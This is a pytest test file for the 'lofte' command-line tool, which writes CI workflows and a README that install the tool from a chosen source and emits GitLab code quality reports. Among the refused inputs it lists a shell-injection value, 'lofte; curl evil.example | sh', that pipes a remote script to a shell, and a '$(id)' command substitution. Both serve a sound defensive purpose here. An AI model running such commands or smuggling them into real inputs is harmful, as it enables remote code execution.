"""`lofte init --lofte-source … --host …`: where the checks install lofte from, said in every
file that installs it, and the GitLab variant with its code quality report."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from lofte_cli import __version__
from tests.helpers import copy_base

BIN = Path(sys.executable).parent
OUTSIDE = (
    "the workflows run on the git host's machines, which have only the repository: "
    "give a path inside it, like ./verktyg/lofte"
)
WHAT = (
    "write a version (0.3.0), a git address (git+https://github.com/OWNER/lofte@v0.3.0) "
    "or a path inside the repository (./verktyg/lofte)"
)
WORKFLOWS = (".github/workflows/lofte.yml", ".github/workflows/lofte-aktivitet.yml")


def read(path: Path) -> str:
    return path.read_text(encoding="utf-8")


def source_lines(root: Path) -> list[str]:
    return [
        line.strip()
        for name in WORKFLOWS
        for line in read(root / name).splitlines()
        if "LOFTE_SOURCE:" in line
    ]


@pytest.mark.parametrize(
    ("given", "installed"),
    [
        (None, f"lofte=={__version__}"),
        ("0.3.0", "lofte==0.3.0"),
        ("v0.4.1", "lofte==0.4.1"),
        ("lofte>=0.3,<1", "lofte>=0.3,<1"),
        ("git+https://github.com/polisen-vg/lofte@v0.3.0", "git+https://github.com/polisen-vg/lofte@v0.3.0"),
        ("verktyg/lofte", "./verktyg/lofte"),
        ("./verktyg/lofte-0.3.0-py3-none-any.whl", "./verktyg/lofte-0.3.0-py3-none-any.whl"),
    ],
)  # fmt: skip
def test_every_file_installs_the_source_given(run_cli, tmp_path, given, installed):
    args = ["init", "repo"] + (["--lofte-source", given] if given else [])
    result = run_cli(*args, cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    assert f"lofte is installed from {installed}\n" in result.stdout
    root = tmp_path / "repo"
    quoted = json.dumps(installed)
    assert source_lines(root) == [f"LOFTE_SOURCE: {quoted}", f"LOFTE_SOURCE: {quoted}"]
    readme = read(root / "README.md")
    assert f"Kontrollen installerar lofte från `{installed}`." in readme
    assert "`LOFTE_SOURCE:` i `.github/workflows/lofte.yml`" in readme
    assert "lofte-project" not in readme + read(root / ".pre-commit-config.yaml")
    assert all("lofte-project" not in read(root / name) for name in WORKFLOWS)


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ("/home/anna/lofte", OUTSIDE),
        ("../lofte", OUTSIDE),
        ("lofte; curl evil.example | sh", WHAT),
        ("$(id)", WHAT),
        ("-e .", WHAT),
        ("requests", WHAT),
    ],
)  # fmt: skip
def test_a_source_the_checks_cannot_install_is_refused_and_nothing_written(
    run_cli, tmp_path, given, message
):
    result = run_cli("init", "repo", "--lofte-source", given, cwd=tmp_path)
    assert result.exit_code == 2
    assert result.stderr == f"lofte: --lofte-source {given!r}: {message}\n"
    assert not (tmp_path / "repo").exists()


def test_the_refusal_in_swedish(run_cli, tmp_path, monkeypatch):
    monkeypatch.setenv("LOFTE_LANG", "sv")
    result = run_cli("init", "repo", "--lofte-source", "/opt/lofte", cwd=tmp_path)
    assert result.exit_code == 2
    assert result.stderr == (
        "lofte: --lofte-source '/opt/lofte': kontrollerna körs på git-värdens datorer, där "
        "bara förrådet finns: ange en sökväg i förrådet, till exempel ./verktyg/lofte\n"
    )


def test_lofte_forms_keeps_the_source_init_chose_and_takes_a_new_one(run_cli, tmp_path):
    root = copy_base(tmp_path / "d")
    source = "git+https://github.com/polisen-vg/lofte@v0.3.0"
    assert run_cli("init", str(root), "--lofte-source", source, cwd=tmp_path).exit_code == 0
    assert run_cli("forms", cwd=root).exit_code == 0
    assert source_lines(root)[1] == f'LOFTE_SOURCE: "{source}"'
    assert run_cli("forms", "--lofte-source", "0.5.0", cwd=root).exit_code == 0
    assert source_lines(root) == [f'LOFTE_SOURCE: "{source}"', 'LOFTE_SOURCE: "lofte==0.5.0"']
    assert run_cli("forms", cwd=root).exit_code == 0
    assert source_lines(root)[1] == 'LOFTE_SOURCE: "lofte==0.5.0"'


# --- GitLab ---------------------------------------------------------------------------


def check_gitlab_ci(path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.gitlab-ci", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )


def test_init_for_gitlab_writes_ci_that_gitlabs_schema_accepts(run_cli, tmp_path):
    result = run_cli("init", "repo", "--host", "gitlab", "--lofte-source", "0.3.0", cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    root = tmp_path / "repo"
    created = [line.removeprefix("created repo/") for line in result.stdout.splitlines()[:10]]
    assert created == [
        "data/pledges/.gitkeep",
        "README.md",
        ".gitlab-ci.yml",
        ".pre-commit-config.yaml",
        ".gitignore",
        ".vscode/settings.json",
        ".vscode/extensions.json",
        "schemas/activity.schema.json",
        "schemas/followup.schema.json",
        "schemas/pledge.schema.json",
    ]
    assert not (root / ".github").exists()
    checked = check_gitlab_ci(root / ".gitlab-ci.yml")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    ci = YAML(typ="safe").load(read(root / ".gitlab-ci.yml"))
    assert ci["variables"]["LOFTE_SOURCE"] == "lofte==0.3.0"
    assert ci["lofte"]["script"] == [
        "lofte validate --format gitlab >gl-code-quality-report.json || true",
        "lofte validate",
        "lofte coverage",
    ]
    assert ci["lofte"]["artifacts"] == {
        "when": "always",
        "reports": {"codequality": "gl-code-quality-report.json"},
    }
    assert ci["pages"]["script"] == ["lofte render --out public"]
    readme = read(root / "README.md")
    assert "GitLab har inga formulär för ärenden" in readme
    assert "`lofte import aktiviteter.xlsx`" in readme
    assert "**GitLabs webbredigerare.**" in readme
    assert "`LOFTE_SOURCE:` i `.gitlab-ci.yml`" in readme


def test_gitlabs_schema_check_is_not_empty(tmp_path):
    """The schema check above would catch a broken file: a job without a script fails."""
    path = tmp_path / ".gitlab-ci.yml"
    path.write_text("lofte:\n  stage: check\n  scripts: [lofte validate]\n", encoding="utf-8")
    assert check_gitlab_ci(path).returncode == 1


def test_unknown_host_is_a_usage_error(run_cli, tmp_path):
    result = run_cli("init", "repo", "--host", "bitbucket", cwd=tmp_path)
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == (
        "Error: Invalid value for '--host': --host 'bitbucket': choose github, gitlab"
    )
    assert not (tmp_path / "repo").exists()


def test_validate_writes_gitlabs_code_quality_report(run_cli, tmp_path):
    root = copy_base(tmp_path / "d")
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    activity = root / "data/pledges/p/activities/2023-04-02-trafikkontroll.yaml"
    activity.write_text(read(activity).replace("[polis-1]", "[polis-9]"), encoding="utf-8")
    result = run_cli("validate", "--format", "gitlab", cwd=root)
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    fingerprints = [issue.pop("fingerprint") for issue in report]
    assert [len(f) for f in fingerprints] == [64, 64] and fingerprints[0] != fingerprints[1]
    assert report == [
        {
            "type": "issue",
            "check_name": "L103",
            "description": "L103 unknown commitment 'polis-9'; did you mean 'polis-2'? "
            "(pledge p has polis-1, polis-2, kommun-1) — Use one of the commitment ids "
            "listed in the pledge's pledge.yaml.",
            "categories": ["Bug Risk"],
            "severity": "major",
            "location": {
                "path": "data/pledges/p/activities/2023-04-02-trafikkontroll.yaml",
                "lines": {"begin": 5},
            },
        },
        {
            "type": "issue",
            "check_name": "L119",
            "description": "L119 commitment polis-1 counts measure 'kontroller', but no "
            "activity for it reports that measure — Report the measure named by `expect.of` "
            "in the activities' `measures`.",
            "categories": ["Style"],
            "severity": "minor",
            "location": {"path": "data/pledges/p/pledge.yaml", "lines": {"begin": 25}},
        },
    ]  # fmt: skip
    # The same problems a run later (lines unchanged or not) keep their fingerprints.
    again = run_cli("validate", "--format", "gitlab", cwd=root)
    assert [issue["fingerprint"] for issue in json.loads(again.stdout)] == fingerprints


def test_validate_gitlab_report_of_clean_data_is_an_empty_list(run_cli, tmp_path):
    root = copy_base(tmp_path / "d")
    result = run_cli("validate", "--format", "gitlab", cwd=root)
    assert (result.exit_code, result.stdout) == (0, "[]\n")
